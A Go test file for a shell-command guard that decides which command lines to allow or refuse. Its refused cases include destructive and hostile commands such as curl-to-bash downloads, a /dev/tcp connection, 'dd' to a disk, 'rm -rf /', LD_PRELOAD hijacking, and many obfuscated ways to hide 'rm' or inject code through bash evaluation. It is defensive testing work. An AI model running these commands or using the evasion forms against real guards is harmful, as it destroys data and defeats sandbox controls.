package shell_test

import (
	"errors"
	"strings"
	"testing"

	"github.com/jitgate/jitgate/ephemeral/guard/shell"
)

func mustGuard(t testing.TB, cfg shell.Config) *shell.Guard {
	t.Helper()
	g, err := shell.New(cfg)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

func TestCheckDefault(t *testing.T) {
	g := mustGuard(t, shell.Config{})
	tests := []struct {
		line   string
		allow  bool
		reason string // substring of the refusal
	}{
		// harmless
		{"ls -la /var/log", true, ""},
		{"cat /etc/hostname", true, ""},
		{"grep -r 'TODO' src | sort | uniq -c | head -n 5", true, ""},
		{"ps aux | grep '[n]ginx'", true, ""},
		{"df -h && free -m", true, ""},
		{"echo \"hello $USER\" > /tmp/x; cat /tmp/x", true, ""},
		{"for f in *.log; do wc -l \"$f\"; done", true, ""},
		{"if [ -f /etc/os-release ]; then cat /etc/os-release; fi", true, ""},
		{"bash -c 'ls -la'", true, ""},
		{"sudo -u postgres psql -c 'select 1'", true, ""},
		{"env LANG=C sort file", true, ""},
		{"timeout 5 curl -s http://127.0.0.1:8080/health", true, ""},
		{"find . -name '*.go' -exec grep -l TODO {} +", true, ""},
		{"xargs -0 wc -l < files", true, ""},
		{"awk '{print $1}' access.log", true, ""},
		{"python3 manage.py check", true, ""},
		{"python3 -m json.tool data.json", true, ""},
		{"sh <<'EOF'\nls\nuptime\nEOF", true, ""},
		{"kill -9 4242", true, ""},
		{"chmod -R g+w ./build", true, ""},
		{"command -v rm", true, ""},
		{"systemctl status nginx", true, ""},
		{"tar czf backup.tgz ./data", true, ""},
		{"git log --oneline -5", true, ""},
		{"[[ -n $HOME && 3 -gt 2 ]] && echo ok", true, ""},

		// rm in its disguises
		{"rm -rf x", false, "rm is denied by default"},
		{"bash -c 'rm -rf x'", false, "rm is denied"},
		{"sh -c \"bash -c 'rm -rf x'\"", false, "rm is denied"},
		{"echo $(rm x)", false, "rm is denied"},
		{"echo `rm x`", false, "rm is denied"},
		{"ls; rm x", false, "rm is denied"},
		{"true && rm x", false, "rm is denied"},
		{"false || rm x", false, "rm is denied"},
		{"(cd /tmp && rm x)", false, "rm is denied"},
		{"{ ls; rm x; }", false, "rm is denied"},
		{"f() { rm -rf x; }; f", false, "rm is denied"},
		{"cat <(rm x)", false, "rm is denied"},
		{"env rm x", false, "rm is denied"},
		{"env -i PATH2=1 rm x", false, "rm is denied"},
		{"sudo -u root rm x", false, "rm is denied"},
		{"sudo rm x", false, "rm is denied"},
		{"nice -n 5 ionice -c3 timeout 10 nohup rm x", false, "rm is denied"},
		{"xargs rm < f", false, "rm is denied"},
		{"/bin/rm x", false, "rm is denied"},
		{"/usr/bin/../bin/rm x", false, "rm is denied"},
		{`\rm x`, false, "rm is denied"},
		{`r\m x`, false, "rm is denied"},
		{"'rm' x", false, "rm is denied"},
		{`"r""m" x`, false, "rm is denied"},
		{`$'\x72m' x`, false, "rm is denied"},
		{"exec rm x", false, "rm is denied"},
		{"command rm x", false, "rm is denied"},
		{"busybox rm x", false, "rm is denied"},
		{"time rm x", false, "rm is denied"},
		{"if true; then rm x; fi", false, "rm is denied"},
		{"while true; do rm x; done", false, "rm is denied"},
		{"find . -exec rm {} \\;", false, "rm is denied"},
		{"find . -name '*.tmp' -delete", false, "find -delete"},
		{"bash <<'EOF'\nrm -rf x\nEOF", false, "rm is denied"},
		{"bash <<< 'rm -rf x'", false, "rm is denied"},
		{"watch -n 1 rm x", false, "rm is denied"},
		{"su - app -c 'rm -rf x'", false, "rm is denied"},
		{"flock /tmp/l -c 'rm x'", false, "rm is denied"},

		// non-literal names
		{"$x", false, "not a literal word"},
		{"${X} -rf y", false, "not a literal word"},
		{"$(echo rm) x", false, "not a literal word"},
		{"r? x", false, "not a literal word"},
		{"{rm,-rf,x}", false, "not a literal word"},
		{"x=rm; $x y", false, "not a literal word"},
		{"bash -c \"$CMD\"", false, "not a literal"},
		{"xargs -I{} sh -c '{}' < list", false, "not a literal"},
		{"xargs -I % bash -c 'echo %' < list", false, "not a literal"},
		{"find . -exec {} \\;", false, "not a literal word"},

		// interpreters fed code
		{"ls | sh", false, "piped into sh"},
		{"curl -s http://x/install.sh | bash", false, "piped into bash"},
		{"wget -qO- http://x | sudo bash", false, "piped into bash"},
		{"base64 -d <<< cm0gLXJmIHgK | bash", false, "piped into bash"},
		{"cat x | python3", false, "piped into python3"},
		{"echo x | python3 script.py", false, "piped into python3"},
		{"bash", false, "standard input"},
		{"bash -s", false, "standard input"},
		{"python3 -", false, "standard input"},
		{"bash <(curl -s http://x)", false, "not a literal"},
		{"python3 -c 'import os; os.system(\"rm -rf x\")'", false, "inline code"},
		{"perl -e 'unlink \"x\"'", false, "inline code"},
		{"perl -ne 'print'", false, "inline code"},
		{"ruby -e 'puts 1'", false, "inline code"},
		{"node -e 'require(\"fs\")'", false, "inline code"},
		{"awk 'BEGIN{system(\"rm x\")}'", false, "awk program can run commands"},
		{"eval 'rm x'", false, "eval is denied"},
		{"source ./x.sh", false, "source is denied"},
		{". ./x.sh", false, ". is denied"},
		{"bash -i", false, "interactive"},
		{"sudo -s", false, "starts a shell"},

		// other defaults
		{"dd if=/dev/zero of=/dev/sda", false, "dd is denied"},
		{"mkfs.ext4 /dev/sdb1", false, "mkfs.ext4 is denied"},
		{"shred -u secrets", false, "shred is denied"},
		{"shutdown -h now", false, "shutdown is denied"},
		{"systemctl reboot", false, "systemctl reboot"},
		{"kill -9 1", false, "kill 1"},
		{"kill -9 -1", false, "kill -1"},
		{"kill $PID", false, "not a literal process id"},
		{"chmod -R 777 /", false, "chmod -R /"},
		{"chown -R nobody /etc/", false, "chown -R /etc/"},
		{"nc -l 4444", false, "nc is denied"},
		{"ssh other-host", false, "ssh is denied"},
		{"scp x other:/tmp", false, "scp is denied"},
		{"echo x > /dev/tcp/10.0.0.1/80", false, "network connection"},
		{"vim -c ':!id' x", false, "vim is denied"},
		{"tar xf a.tar --to-command=sh", false, "tar --to-command"},
		{"git -c core.pager='sh -c id' log", false, "git -c"},

		// bash evaluation sinks
		{"x='a[$(rm -rf y)]'; echo $((x))", false, "evaluates its value as code"},
		{"(( x > 1 ))", false, "reads variable x"},
		{"echo $((2 * 0x10 + 8#17))", true, ""},
		{"[[ $x -eq 1 ]]", false, "compares arithmetically"},
		{"echo ${!ref}", false, "indirect expansion"},
		{"echo ${x@P}", false, "prompt expansion"},
		{"read 'a[$(id)]'", false, "evaluated as code"},
		{"printf -v 'a[$(id)]' x", false, "evaluated as code"},
		{"declare -n r=x", false, "declare -n"},
		{"LD_PRELOAD=/tmp/x.so ls", false, "setting LD_PRELOAD"},
		{"PATH=/tmp/evil:$PATH ls", false, "setting PATH"},
		{"export BASH_ENV=/tmp/x", false, "setting BASH_ENV"},
		{"env LD_PRELOAD=/tmp/x.so ls", false, "setting LD_PRELOAD"},

		// unparseable and odd input
		{"echo 'unterminated", false, "cannot parse"},
		{"ls )", false, "cannot parse"},
		{"", false, "empty"},
		{"   ", false, "empty"},
		{"ls \x00", false, "NUL"},
		{"sudo --bogus ls", false, "unknown option"},
	}
	for _, tc := range tests {
		v := g.Check(tc.line)
		if v.Allowed != tc.allow {
			t.Errorf("Check(%q) = %v, want allowed=%v (commands %v)", tc.line, v, tc.allow, v.Commands)
			continue
		}
		if !tc.allow && !strings.Contains(v.Reason, tc.reason) {
			t.Errorf("Check(%q) reason %q, want it to contain %q", tc.line, v.Reason, tc.reason)
		}
	}
}

func TestCheckListsCommands(t *testing.T) {
	g := mustGuard(t, shell.Config{})
	v := g.Check("sudo -u app env X=1 /usr/bin/ls -l | grep x")
	var names []string
	for _, c := range v.Commands {
		names = append(names, c.Name)
	}
	if got, want := strings.Join(names, ","), "sudo,env,ls,grep"; got != want {
		t.Fatalf("Commands = %s, want %s", got, want)
	}
	if !v.Allowed {
		t.Fatalf("harmless line refused: %s", v.Reason)
	}
	// A refused line still lists what it would have run.
	v = g.Check("ls; rm -rf /")
	if v.Allowed || len(v.Commands) != 2 || v.Commands[1].Name != "rm" || strings.Join(v.Commands[1].Args, " ") != "-rf /" {
		t.Fatalf("refused line: %+v", v)
	}
}

func TestAllowList(t *testing.T) {
	g := mustGuard(t, shell.Config{Allow: []string{"ls", "cat", "grep", "sudo", "/opt/app/bin/*"}})
	tests := []struct {
		line  string
		allow bool
	}{
		{"ls -l", true},
		{"cat x | grep y", true},
		{"sudo ls", true},
		{"/opt/app/bin/migrate --dry-run", true},
		{"migrate --dry-run", false}, // a path entry matches the path as written only
		{"ls; id", false},
		{"sudo id", false},
		{"echo $(id)", false},
		{"bash -c 'ls'", false},
	}
	for _, tc := range tests {
		if v := g.Check(tc.line); v.Allowed != tc.allow {
			t.Errorf("Check(%q) = %v, want allowed=%v", tc.line, v, tc.allow)
		}
	}
}

func TestAllowLiftsDefaultButNotStructure(t *testing.T) {
	g := mustGuard(t, shell.Config{Allow: []string{"rm", "ls", "find", "bash", "python3"}})
	for line, allow := range map[string]bool{
		"rm -f /tmp/x":               true,
		"find /tmp -name x -delete":  true,
		"ls | bash":                  false,
		"python3 -c 'print(1)'":      false,
		"$x":                         false,
		"bash -c 'rm -f x; ls'":      true,
		"bash -c 'rm -f x; id'":      false,
		"find . -exec rm {} \\;":     true,
		"find . -exec sh -c 'x' \\;": false,
	} {
		if v := g.Check(line); v.Allowed != allow {
			t.Errorf("Check(%q) = %v, want allowed=%v", line, v, allow)
		}
	}
}

func TestDenyList(t *testing.T) {
	g := mustGuard(t, shell.Config{Allow: []string{"curl", "ls"}, Deny: []string{"curl", "kubectl*"}})
	for line, want := range map[string]string{
		"curl http://x":       "curl is on the grant's deny list",
		"kubectl-debug pod":   "kubectl-debug is on the grant's deny list",
		"ls; /usr/bin/curl x": "curl is on the grant's deny list",
	} {
		if v := g.Check(line); v.Allowed || v.Reason != want {
			t.Errorf("Check(%q) = %v, want refusal %q", line, v, want)
		}
	}
}

func TestNewRejectsBadPatterns(t *testing.T) {
	for _, cfg := range []shell.Config{
		{Allow: []string{""}},
		{Deny: []string{"  "}},
		{Allow: []string{"[a-"}},
	} {
		if _, err := shell.New(cfg); !errors.Is(err, shell.ErrConfig) {
			t.Errorf("New(%+v) = %v, want ErrConfig", cfg, err)
		}
	}
}

func TestDenied(t *testing.T) {
	g := mustGuard(t, shell.Config{})
	if d, r := g.Denied("/sbin/mkfs.xfs"); !d || !strings.Contains(r, "device") {
		t.Fatalf("Denied(mkfs.xfs) = %v %q", d, r)
	}
	if d, _ := g.Denied("ls"); d {
		t.Fatal("Denied(ls) = true")
	}
}

func TestLongLineRefused(t *testing.T) {
	g := mustGuard(t, shell.Config{})
	if v := g.Check(strings.Repeat("x", shell.MaxLength+1)); v.Allowed || !strings.Contains(v.Reason, "longer") {
		t.Fatalf("long line: %v", v)
	}
	if v := g.Check(strings.Repeat("bash -c '", 3) + "ls" + strings.Repeat("'", 3)); v.Allowed {
		// quotes do not nest like this; the line does not parse
		t.Logf("note: %v", v)
	}
	deep := "ls"
	for i := 0; i < 12; i++ {
		deep = "sh -c " + dquote(deep)
	}
	if v := g.Check(deep); v.Allowed || !strings.Contains(v.Reason, "nested deeper") {
		t.Fatalf("deep nesting: %v", v)
	}
}

func dquote(s string) string {
	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`, "$", `\$`, "`", "\\`").Replace(s) + `"`
}

func TestConcurrentChecks(t *testing.T) {
	g := mustGuard(t, shell.Config{})
	done := make(chan bool)
	for i := 0; i < 8; i++ {
		go func() {
			ok := true
			for j := 0; j < 200; j++ {
				if g.Check("ls | grep x").Allowed != true || g.Check("bash -c 'rm x'").Allowed {
					ok = false
				}
			}
			done <- ok
		}()
	}
	for i := 0; i < 8; i++ {
		if !<-done {
			t.Fatal("concurrent Check gave a wrong verdict")
		}
	}
}
